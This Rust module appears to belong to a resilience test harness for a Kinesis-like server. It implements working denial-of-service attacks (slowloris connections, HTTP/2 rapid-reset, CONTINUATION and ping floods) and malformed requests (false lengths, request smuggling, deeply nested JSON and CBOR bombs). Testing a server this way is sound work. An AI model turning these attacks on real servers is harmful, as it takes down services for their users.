//! The attacks. Each ends by itself, whatever the server does with it.

use std::net::SocketAddr;
use std::time::Duration;

use base::BoxFuture;
use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::net::TcpStream;
use tokio::task::JoinSet;
use tokio::time::{Instant, sleep, timeout};

use super::frames::{CONTINUATION, END_HEADERS, END_STREAM, HEADERS, PING, POST, PREFACE, RST_STREAM, SETTINGS, frame};

/// Whom to attack and for how long.
#[derive(Debug, Clone, Copy)]
pub(super) struct Target {
    pub address: SocketAddr,
    pub lasts: Duration,
}

type Attack = fn(Target) -> BoxFuture<'static, ()>;

pub(super) const ATTACKS: &[(&str, Attack)] = &[
    ("10,000 slow connections", |target| Box::pin(slow_connections(target))),
    ("10,000 heads held back", |target| Box::pin(heads_held_back(target))),
    ("1,000 bodies of 10 MiB", |target| Box::pin(large_bodies(target))),
    ("endless heads", |target| Box::pin(floods(target, b"POST / HTTP/1.1\r\nhost: h\r\n", header_lines))),
    ("streams opened and reset", |target| Box::pin(floods(target, PREFACE, resets))),
    ("endless CONTINUATION", |target| Box::pin(floods(target, PREFACE, continuations))),
    ("pings and settings", |target| Box::pin(floods(target, PREFACE, pings))),
    ("lies and odd bodies", |target| Box::pin(odd_requests(target))),
];

const SLOW_CONNECTIONS: usize = 10_000;
const HELD_HEAD_BYTES: usize = 60_000;
const LARGE_BODIES: usize = 1000;
const LARGE_BODY_BYTES: usize = 10 << 20;
/// Connections of a flood, each opened again when the server has ended it.
const FLOODS: usize = 8;
const PIECE_BYTES: usize = 16 << 10;

impl Target {
    fn end(self) -> Instant {
        Instant::now() + self.lasts
    }

    async fn connect(self) -> Option<TcpStream> {
        timeout(self.lasts, TcpStream::connect(self.address)).await.ok()?.ok()
    }
}

async fn together(attackers: impl Iterator<Item = impl Future<Output = ()> + Send + 'static>) {
    let mut tasks = JoinSet::new();
    attackers.for_each(|attacker| drop(tasks.spawn(attacker)));
    while tasks.join_next().await.is_some() {}
}

/// Heads that come a byte a second.
async fn slow_connections(target: Target) {
    let end = target.end();
    together((0..SLOW_CONNECTIONS).map(move |_| async move {
        let Some(mut socket) = target.connect().await else { return };
        for byte in b"POST / HTTP/1.1\r\nhost: " {
            if socket.write_all(&[*byte]).await.is_err() || Instant::now() > end {
                return;
            }
            sleep(Duration::from_secs(1)).await;
        }
    }))
    .await;
}

/// Most of a large head, and then nothing.
async fn heads_held_back(target: Target) {
    let end = target.end();
    together((0..SLOW_CONNECTIONS).map(move |_| async move {
        let Some(mut socket) = target.connect().await else { return };
        let head = [b"POST / HTTP/1.1\r\nhost: h\r\nx-long: ".as_slice(), &[b'x'; HELD_HEAD_BYTES]].concat();
        let _ = timeout(target.lasts, socket.write_all(&head)).await;
        let _ = tokio::time::timeout_at(end, socket.read(&mut [0; 1024])).await;
    }))
    .await;
}

fn head(content_type: &str, lines: &str) -> Vec<u8> {
    let target = "x-amz-target: Kinesis_20131202.PutRecords";
    format!("POST / HTTP/1.1\r\nhost: h\r\ncontent-type: {content_type}\r\n{target}\r\n{lines}\r\n\r\n").into_bytes()
}

const JSON: &str = "application/x-amz-json-1.1";
const CBOR: &str = "application/x-amz-cbor-1.1";

/// All at once, each in pieces, so that the server would have to hold all of them.
async fn large_bodies(target: Target) {
    let end = target.end();
    together((0..LARGE_BODIES).map(move |_| async move {
        let Some(mut socket) = target.connect().await else { return };
        if socket.write_all(&head(JSON, &format!("content-length: {LARGE_BODY_BYTES}"))).await.is_err() {
            return;
        }
        let piece = vec![b' '; PIECE_BYTES];
        for _ in 0..LARGE_BODY_BYTES / PIECE_BYTES {
            let sent = timeout(target.lasts, socket.write_all(&piece)).await;
            if !matches!(sent, Ok(Ok(()))) || Instant::now() > end {
                return;
            }
            tokio::task::yield_now().await;
        }
        let _ = timeout(target.lasts, socket.read(&mut [0; 1024])).await;
    }))
    .await;
}

/// Sends what `next` makes until the server ends the connection, and begins again.
async fn floods(target: Target, begin: &'static [u8], next: fn(u32) -> Vec<u8>) {
    let end = target.end();
    together((0..FLOODS).map(move |_| async move {
        while Instant::now() < end {
            let Some(mut socket) = target.connect().await else { return };
            let _ = socket.write_all(begin).await;
            let (mut reader, mut writer) = socket.split();
            let write = async {
                for n in 0.. {
                    if Instant::now() > end || writer.write_all(&next(n)).await.is_err() {
                        return;
                    }
                }
            };
            let read = async {
                let mut buffer = vec![0; PIECE_BYTES];
                while matches!(reader.read(&mut buffer).await, Ok(1..)) {}
            };
            tokio::select! {
                () = write => {}
                () = read => {}
                () = sleep(target.lasts) => {}
            }
            // A server that closes at once is not to be kept busy with new connections alone.
            sleep(Duration::from_millis(10)).await;
        }
    }))
    .await;
}

fn header_lines(n: u32) -> Vec<u8> {
    format!("x-header-{n}: {}\r\n", "x".repeat(1000)).into_bytes()
}

fn resets(n: u32) -> Vec<u8> {
    let opened_and_reset = |n: u32| {
        let stream = 2 * n + 1;
        [frame(HEADERS, END_HEADERS | END_STREAM, stream, POST), frame(RST_STREAM, 0, stream, &[0, 0, 0, 8])].concat()
    };
    let settings = if n == 0 { frame(SETTINGS, 0, 0, &[]) } else { Vec::new() };
    settings.into_iter().chain((n * 100..(n + 1) * 100).flat_map(opened_and_reset)).collect()
}

fn continuations(n: u32) -> Vec<u8> {
    let field = [b"\x00\x01a\x7f\x81\x7f".as_slice(), &[b'x'; 256]].concat();
    match n {
        0 => [frame(SETTINGS, 0, 0, &[]), frame(HEADERS, END_STREAM, 1, POST)].concat(),
        _ => frame(CONTINUATION, 0, 1, &field.repeat(60)),
    }
}

fn pings(n: u32) -> Vec<u8> {
    let wish = if n.is_multiple_of(2) { frame(PING, 0, 0, &[0; 8]) } else { frame(SETTINGS, 0, 0, &[]) };
    wish.repeat(100)
}

/// Lengths that are lies, requests behind requests, and bodies that no reader should trust.
async fn odd_requests(target: Target) {
    let end = target.end();
    let requests = odd_bodies();
    let count = requests.len();
    together((0..FLOODS * 2).map(move |n| {
        let requests = requests.clone();
        async move {
            for request in requests.iter().cycle().skip(n % count) {
                if Instant::now() > end {
                    return;
                }
                let Some(mut socket) = target.connect().await else { return };
                let _ = timeout(target.lasts, socket.write_all(request)).await;
                let _ = timeout(Duration::from_millis(200), socket.read(&mut [0; 4096])).await;
            }
        }
    }))
    .await;
}

fn odd_bodies() -> Vec<Vec<u8>> {
    let whole = |content_type: &str, body: &[u8]| {
        [head(content_type, &format!("content-length: {}", body.len())), body.to_vec()].concat()
    };
    let deep = |open: &str| format!("{{\"Records\":{}", open.repeat(1_000_000)).into_bytes();
    vec![
        [head(JSON, "content-length: 1000000"), b"{}".to_vec()].concat(),
        head(JSON, "content-length: 99999999999999999999"),
        head(JSON, "content-length: 11000000000"),
        [head(JSON, "content-length: 2\r\ntransfer-encoding: chunked"), b"2\r\n{}\r\n0\r\n\r\nGET / ".to_vec()]
            .concat(),
        [head(JSON, "transfer-encoding: chunked"), b"fffffffffffffff0\r\n{}".to_vec()].concat(),
        whole(JSON, &deep("[")),
        whole(JSON, &deep("{\"a\":")),
        whole(CBOR, b"\xa1gRecords\x9b\xff\xff\xff\xff\xff\xff\xff\xff"),
        whole(CBOR, b"\xa1gRecords\x5b\x7f\xff\xff\xff\xff\xff\xff\xff"),
        whole(CBOR, &vec![0x9f; 1_000_000]),
        whole(CBOR, &vec![0xc0; 1_000_000]),
    ]
}
